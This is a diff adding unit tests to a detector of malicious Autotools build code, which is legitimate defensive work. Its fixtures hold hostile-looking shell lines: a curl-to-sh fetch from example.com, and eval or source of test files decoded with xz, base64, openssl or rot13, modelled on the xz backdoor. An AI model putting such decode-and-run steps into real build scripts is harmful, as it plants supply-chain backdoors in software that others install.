@@ -632,6 +632,45 @@ AC_DEFUN([gl_BUILD_TO_HOST],
     expect(buildFinding(added('m4/fetch.m4', 'AC_DEFUN([X_FETCH], [curl -fsSL https://example.com/setup.sh | sh])'))).toMatchObject({ severity: 'high' });
   });
 
+  it('reads eval of a command substitution that decodes a test file as critical, in backticks or $(…), in m4, configure.ac and Makefile.am', () => {
+    // The backdoor's macro without the pipe into $SHELL: eval runs what the substitution unpacks.
+    const m4 = 'AC_DEFUN([gl_X_CHECK],\n[\n  eval `sed -e \'s/x/y/\' tests/files/good-3.xz | tr "\\t \\-_" " \\t_\\-" | xz -d 2>/dev/null`\n])';
+    expect(kinds(m4, 'shell')).toEqual(expect.arrayContaining(['decode', 'pipe-to-shell']));
+    expect(buildFinding(added('m4/build-to-host.m4', m4))).toMatchObject({ severity: 'critical', line: 3, title: 'Autoconf macro decodes data and runs it as shell code when ./configure runs' });
+    expect(buildFinding(added('configure.ac', 'AC_INIT([x], [1.0])\neval $(sed -e \'s/x/y/\' tests/files/good-3.xz | tr "\\t \\-_" " \\t_\\-" | xz -d 2>/dev/null)\nAC_OUTPUT'))).toMatchObject({ severity: 'critical', line: 2 });
+    expect(buildFinding(added('configure.ac', 'AC_INIT([x], [1.0])\nsh -c "$(base64 -d $srcdir/tests/data/blob.b64)"'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('configure.ac', 'AC_INIT([x], [1.0])\nsource <(openssl enc -d -aes-256-cbc -in tests/files/k.bin -k x)'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('configure.ac', 'AC_INIT([x], [1.0])\neval "$(cat tests/files/notes.txt | tr \'A-Za-z\' \'N-ZA-Mn-za-m\')"'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('src/Makefile.am', 'all-local:\n\teval "$$(dd if=$(srcdir)/tests/files/bad-2.xz bs=1 skip=1024 2>/dev/null | xz -F raw --lzma1 -dc)"'))).toMatchObject({ severity: 'critical' });
+  });
+
+  it('pairs a decode written to a file with a pipe into a shell only when that file is what runs', () => {
+    // Unpacked into a file that a later line pipes into the shell or runs: the shape, over two lines.
+    expect(buildFinding(added('src/Makefile.am', 'gen.h: gen.sh.xz\n\txz -dc $(srcdir)/gen.sh.xz > gen.sh\n\tcat gen.sh | $(SHELL) > gen.h'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('configure.ac', 'AC_INIT([x], [1.0])\nbase64 -d "$srcdir/tests/files/blob.b64" > conftest.sh\n. ./conftest.sh'))).toMatchObject({ severity: 'critical' });
+    // A manual unpacked into a file, a fixture into tar or a database, beside a template run through the shell: no payload.
+    const makefile = ['manual.txt: manual.txt.gz', '\tgzip -dc $(srcdir)/manual.txt.gz > manual.txt', 'fixtures:', '\txz -dc $(srcdir)/tests/files/corpus.tar.xz | tar x -C tests', '\tgunzip -c $(srcdir)/tests/files/seed.sql.gz | psql "$(TEST_DB)"', 'gen.h: gen.sh.in', '\tcat $(srcdir)/gen.sh.in | $(SHELL) > gen.h'].join('\n');
+    expect(kinds(makefile, 'shell')).not.toContain('decode');
+    expect(buildFinding(added('doc/Makefile.am', makefile))).toMatchObject({ severity: 'medium', title: 'Makefile.am pipes text it built into a shell at build time' });
+  });
+
+  it('leaves eval of a tool\'s own output alone, and a decode that nothing evaluates', () => {
+    const ordinary = [
+      'eval "$(ssh-agent -s)"',
+      'eval "$(pyenv init -)"',
+      'eval "$(/opt/homebrew/bin/brew shellenv)"',
+      'eval $(opam env)',
+      'source <(kubectl completion bash)',
+      'eval `$PKG_CONFIG --cflags zlib`',
+      'eval "NAME_UC=$(echo $name | tr a-z A-Z)"',
+      'xz -d archive.tar.xz',
+      'base64 -d cert.b64 > cert.pem',
+      'VERSION=`git describe --tags | sed "s/^v//"`',
+    ].join('\n');
+    expect(kinds(ordinary, 'shell')).not.toContain('pipe-to-shell');
+    expect(buildFinding(added('configure.ac', `AC_INIT([x], [1.0])\n${ordinary}\nAC_OUTPUT`))).toBeNull();
+  });
+
   it('leaves ordinary Autotools work alone: eval of configure variables, unpacking with gzip -dc into a file, install -d, checks', () => {
     const ordinary = `
 AC_DEFUN([AX_CHECK_VAR],
